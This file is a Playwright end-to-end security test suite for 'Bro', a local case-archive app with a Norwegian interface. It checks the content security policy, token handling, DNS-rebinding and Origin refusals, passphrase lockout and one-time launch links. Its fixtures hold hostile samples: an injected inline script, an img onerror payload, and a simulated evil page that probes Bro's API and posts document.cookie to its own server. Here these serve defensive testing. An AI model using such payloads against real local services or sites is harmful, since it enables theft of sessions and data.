/// <reference lib="dom" />
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { createInterface } from 'node:readline';
import { startHost } from '../../electron/host/server';
import { Session } from '../../electron/services/session';
import { checkScreen, expect, test } from './fixtures';
import { Gate } from './pages';

/** A real HTTP request to the host, with headers a browser would not let a page set. */
function send(
  url: string,
  opts: { method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<{ status: number; body: string; headers: Record<string, string | string[] | undefined> }> {
  return new Promise((resolve, reject) => {
    // A fresh connection per request (no keep-alive socket the host may be closing as it is
    // reused), and an answer within 20 s or a clear failure instead of a hang until the test's timeout.
    const req = httpRequest(
      url,
      { method: opts.method ?? 'GET', headers: opts.headers ?? {}, agent: false, timeout: 20_000 },
      (res) => {
        let body = '';
        res.on('data', (c) => (body += c));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body, headers: res.headers }));
      },
    );
    req.on('timeout', () => req.destroy(new Error(`no answer from ${opts.method ?? 'GET'} ${url} in 20 s`)));
    req.on('error', reject);
    req.end(opts.body);
  });
}

const json = { 'Content-Type': 'application/json' };

test('an injected inline script is blocked by the CSP', async ({ bro }) => {
  const { page } = bro;
  await expect(page.getByRole('heading', { name: 'Velkommen til Bro' })).toBeVisible();
  const res = await page.request.get(bro.host.origin + '/');
  expect(res.headers()['content-security-policy']).toContain("script-src 'self'");
  expect(res.headers()['content-security-policy']).not.toContain('unsafe-inline');
  const outcome = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), {
        once: true,
      }),
    );
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = true;';
    document.body.appendChild(s);
    const img = document.createElement('div');
    img.innerHTML = '<img src="x" onerror="window.__pwned2 = true">';
    document.body.appendChild(img);
    const directive = await violation;
    await new Promise((r) => setTimeout(r, 50));
    const w = window as unknown as { __pwned?: boolean; __pwned2?: boolean };
    return { directive, ran: w.__pwned === true || w.__pwned2 === true };
  });
  expect(outcome.ran).toBe(false);
  expect(outcome.directive).toMatch(/^script-src/);
});

test('the host refuses a missing token, a foreign Host and a foreign Origin; no cookie, and the token never reaches a URL', async ({
  bro,
}) => {
  const { page, host } = bro;
  const api = `${host.origin}/api/vault.status`;
  const apiRequests: { url: string; token: string | undefined }[] = [];
  page.on('request', (r) => {
    if (r.url().includes('/api/')) apiRequests.push({ url: r.url(), token: r.headers()['x-bro-token'] });
  });
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Velkommen til Bro' })).toBeVisible();
  // The one-time link left the address bar; the page holds its session token in its own storage.
  expect(page.url()).toBe(`${host.origin}/`);
  const token = await page.evaluate(() => sessionStorage.getItem('bro.session'));
  expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/u);
  expect(apiRequests.length).toBeGreaterThan(0);
  for (const r of apiRequests) {
    expect(r.token).toBe(token);
    expect(r.url).not.toContain(token!);
  }
  // No cookie at all: nothing the browser would send by itself to another port.
  expect(await page.context().cookies()).toEqual([]);

  // Missing token: no header. The page itself is public code and loads without one.
  expect((await send(api, { method: 'POST', headers: json, body: '{}' })).status).toBe(401);
  expect((await send(`${host.origin}/`)).status).toBe(200);
  // A wrong (or used) launch link.
  expect(
    (await send(`${host.origin}/session`, { method: 'POST', headers: { 'X-Bro-Launch': 'wrong' } })).status,
  ).toBe(403);
  // With the page's token in the header it works: the control case for the refusals below.
  const ok = await send(api, { method: 'POST', headers: { ...json, 'X-Bro-Token': token! }, body: '{}' });
  expect(ok.status).toBe(200);
  expect(JSON.parse(ok.body)).toMatchObject({ ok: true });
  expect(ok.headers['access-control-allow-origin']).toBeUndefined();
  // Foreign Host (DNS rebinding): refused even with the token.
  const rebound = await send(api, {
    method: 'POST',
    headers: { ...json, 'X-Bro-Token': token!, Host: `evil.example:${host.port}` },
    body: '{}',
  });
  expect(rebound.status).toBe(403);
  // Foreign Origin (a web page probing localhost): refused even with the token.
  const foreign = await send(api, {
    method: 'POST',
    headers: { ...json, 'X-Bro-Token': token!, Origin: 'http://evil.example' },
    body: '{}',
  });
  expect(foreign.status).toBe(403);
  // From the page itself, a call without its token is refused; the app's own calls work.
  const fromPage = await page.evaluate(
    async () =>
      (
        await fetch('./api/vault.status', {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: '{}',
        })
      ).status,
  );
  expect(fromPage).toBe(401);
});

test.describe('a page served on another loopback port', () => {
  test.use({ vault: 'demo', demoCases: 6 });

  test('gets nothing it could replay: every request it saw is refused by the API', async ({ bro }) => {
    const { page, host } = bro;
    await expect(page.getByRole('heading', { name: 'Saker', level: 1 })).toBeVisible();
    const token = await page.evaluate(() => sessionStorage.getItem('bro.session'));
    expect(token).not.toBeNull();

    // Another local program's web server, which the user visits once. It records everything.
    const seen: {
      method: string;
      url: string;
      headers: Record<string, string | string[] | undefined>;
      body: string;
    }[] = [];
    const evil = createServer((req, res) => {
      let body = '';
      req.on('data', (c) => (body += c));
      req.on('end', () => {
        seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
        if (req.url === '/') {
          res.writeHead(200, { 'Content-Type': 'text/html' });
          res.end(evilPage(host.origin));
        } else res.end('ok');
      });
    });
    await new Promise<void>((r) => evil.listen(0, '127.0.0.1', () => r()));
    const evilPort = (evil.address() as AddressInfo).port;
    try {
      const visit = await page.context().newPage();
      // Waiting for the server's answer is enough: the page reports what it managed, then that it is done.
      await visit.goto(`http://127.0.0.1:${evilPort}/`, { waitUntil: 'commit' });
      await expect.poll(() => seen.some((r) => r.url.startsWith('/done')), { timeout: 45_000 }).toBe(true);
      const report = seen.find((r) => r.url.startsWith('/done'))!;
      const found = JSON.parse(decodeURIComponent(report.url.slice('/done?'.length))) as Record<
        string,
        string
      >;
      // Its own reads of Bro's API failed (no CORS), and its storage holds nothing of Bro's.
      expect(found.cors).toBe('blocked');
      expect(found.storage).toBe('0');
      expect(found.cookie).toBe('');
      // The page stays open until the context closes (closing a tab could stall Chromium under load).

      // Nothing the browser sent it carries a credential for Bro…
      expect(seen.length).toBeGreaterThan(1);
      for (const r of seen) {
        expect(r.headers.cookie).toBeUndefined();
        expect(JSON.stringify(r)).not.toContain(token!);
      }
      // …and replaying every request it received, headers and all, against the API is refused.
      for (const r of seen) {
        const headers: Record<string, string> = {};
        for (const [k, v] of Object.entries(r.headers))
          if (typeof v === 'string' && !['host', 'content-length', 'connection', 'origin'].includes(k))
            headers[k] = v;
        const replay = await send(`${host.origin}/api/cases.list`, {
          method: 'POST',
          headers: { ...headers, 'Content-Type': 'application/json' },
          body: '{}',
        });
        expect(replay.status).toBe(401);
        expect(replay.body).not.toContain('"cases"');
      }
    } finally {
      evil.close();
    }
    // The user's own tab still works, after a reload too (the token is in this tab's storage).
    await page.reload();
    await expect(page.getByRole('heading', { name: 'Saker', level: 1 })).toBeVisible();
  });
});

test.describe('wrong passphrases', () => {
  test.use({ vault: 'demo', demoCases: 3 });

  test('after five in a row the unlock screen says how long to wait, and the right one waits too', async ({
    bro,
  }) => {
    const { page } = bro;
    await expect(page.getByRole('heading', { name: 'Saker', level: 1 })).toBeVisible();
    await page.getByRole('button', { name: 'Lås', exact: true }).click();
    const gate = new Gate(page);
    for (let i = 1; i <= 5; i++) {
      await gate.unlock(`feil passordfrase ${i}`);
      await expect(
        page.getByText('Feil passordfrase eller gjenopprettingsnøkkel. Ingenting er endret.'),
      ).toBeVisible();
      if (i < 5) await expect(page.getByText(/Du kan prøve igjen om/u)).toHaveCount(0);
    }
    await expect(page.getByText('Du kan prøve igjen om 30 sekunder.')).toBeVisible();
    await gate.unlock('demodata');
    await expect(page.getByText(/For mange feil forsøk på å låse opp/u)).toBeVisible();
    await expect(page.getByText(/Du kan prøve igjen om \d+ sekunder\./u)).toBeVisible();
    await checkScreen(page, '91-unlock-wait');
    await expect(page.getByRole('heading', { name: 'Lås opp saksarkivet' })).toBeVisible();
  });
});

test('two hosts side by side work independently, and a tab without the link is told where to get one', async ({
  bro,
}) => {
  const { page, host } = bro;
  await expect(page.getByRole('heading', { name: 'Velkommen til Bro' })).toBeVisible();
  const root = mkdtempSync(path.join(os.tmpdir(), 'bro-e2e-second-'));
  mkdirSync(path.join(root, 'settings'));
  const second = await startHost({
    session: new Session({ kdf: { N: 2 ** 12, r: 8, p: 1 }, settingsDir: path.join(root, 'settings') }),
    staticDir: path.join(import.meta.dirname, '..', '..', 'dist', 'renderer'),
    folders: [root],
  });
  try {
    const other = await page.context().newPage();
    await other.goto(second.url);
    await other.getByRole('button', { name: 'Åpne demoarkiv' }).click();
    await expect(other.getByRole('heading', { name: 'Saker', level: 1 })).toBeVisible({ timeout: 60_000 });
    // The first host is untouched by the second's session, and the other way round.
    await page.reload();
    await expect(page.getByRole('heading', { name: 'Velkommen til Bro' })).toBeVisible();
    await other.reload();
    await expect(other.getByRole('heading', { name: 'Saker', level: 1 })).toBeVisible();
    const tokens = await Promise.all(
      [page, other].map((p) => p.evaluate(() => sessionStorage.getItem('bro.session'))),
    );
    expect(tokens[0]).not.toBe(tokens[1]);
    expect(await page.context().cookies()).toEqual([]);
    await other.close();

    // A new tab at the address without a link, or with a link already used, has no session.
    const stray = await page.context().newPage();
    await stray.goto(`${host.origin}/`);
    await expect(stray.getByRole('heading', { name: 'Åpne Bro fra lenken' })).toBeVisible();
    await checkScreen(stray, '90-no-session');
    await stray.goto(`${second.origin}/#launch=${'A'.repeat(43)}`);
    await expect(stray.getByRole('heading', { name: 'Åpne Bro fra lenken' })).toBeVisible();
    // The newest link works once.
    await stray.goto(host.url);
    await expect(stray.getByRole('heading', { name: 'Velkommen til Bro' })).toBeVisible();
    await stray.close();
  } finally {
    await second.close();
    rmSync(root, { recursive: true, force: true });
  }
});

/** What a hostile page on another port tries: read Bro's API, post to it, find a credential. */
function evilPage(bro: string): string {
  const api = JSON.stringify(`${bro}/api/cases.list`);
  return `<!doctype html><title>x</title><body><img src="${bro}/api/cases.list"><img src="/probe.png">
<script>
(async () => {
  const out = { cookie: document.cookie, storage: String(sessionStorage.length + localStorage.length) };
  try { await fetch(${api}, { method: 'POST', body: '{}', headers: { 'Content-Type': 'application/json' } }); out.cors = 'read'; }
  catch { out.cors = 'blocked'; }
  // Simple requests (no preflight), as a cross-site form would send them.
  for (const type of ['text/plain', 'application/x-www-form-urlencoded'])
    try { await fetch(${api}, { method: 'POST', mode: 'no-cors', body: '{}', headers: { 'Content-Type': type }, credentials: 'include' }); } catch {}
  await fetch('/echo', { method: 'POST', body: document.cookie, credentials: 'include' });
  location.href = '/done?' + encodeURIComponent(JSON.stringify(out));
})();
</script>`;
}

test('`npm run web` prints the URL with the token first and opens the unlock screen of --vault', async ({
  bro,
  browser,
}, testInfo) => {
  testInfo.setTimeout(120_000);
  // A vault made through the first-run screen of the test's own host…
  await bro.page.getByRole('button', { name: 'Åpne demoarkiv' }).click();
  await expect(bro.page.getByRole('heading', { name: 'Saker', level: 1 })).toBeVisible({ timeout: 60_000 });
  const demo = path.join(bro.root, 'settings', 'demo-arkiv');
  // …opened by the real command line, as a person would.
  const root = path.resolve(import.meta.dirname, '..', '..');
  const child = spawn(
    process.execPath,
    [
      '--import',
      'tsx',
      'electron/host/cli.ts',
      '--vault',
      demo,
      '--settings',
      path.join(bro.root, 'settings'),
    ],
    { cwd: root, stdio: ['ignore', 'pipe', 'pipe'] },
  );
  try {
    const first = await new Promise<string>((resolve, reject) => {
      createInterface({ input: child.stdout! }).once('line', resolve);
      child.once('exit', (code) => reject(new Error(`host exited ${code}`)));
    });
    expect(first).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#launch=[A-Za-z0-9_-]{43}$/);
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(first);
    await expect(page.getByRole('heading', { name: 'Lås opp saksarkivet' })).toBeVisible();
    await expect(page.getByText('DEMO – syntetiske data, ingen ekte personer')).toBeVisible();
    await new Gate(page).unlock('demodata');
    await expect(page.getByRole('heading', { name: 'Saker', level: 1 })).toBeVisible();
    // The link is spent; the host printed a fresh one (on stderr) for another tab or browser.
    const fresh = await new Promise<string>((resolve) => {
      const lines = createInterface({ input: child.stderr! });
      lines.on('line', (line) => {
        const m = /(http:\/\/127\.0\.0\.1:\d+\/#launch=[A-Za-z0-9_-]{43})/u.exec(line);
        if (m) resolve(m[1]!);
      });
    });
    expect(fresh).not.toBe(first);
    const again = await context.newPage();
    await again.goto(first);
    await expect(again.getByRole('heading', { name: 'Åpne Bro fra lenken' })).toBeVisible();
    await again.goto(fresh);
    await expect(again.getByRole('heading', { name: 'Saker', level: 1 })).toBeVisible();
    await context.close();
  } finally {
    child.kill('SIGTERM');
  }
});
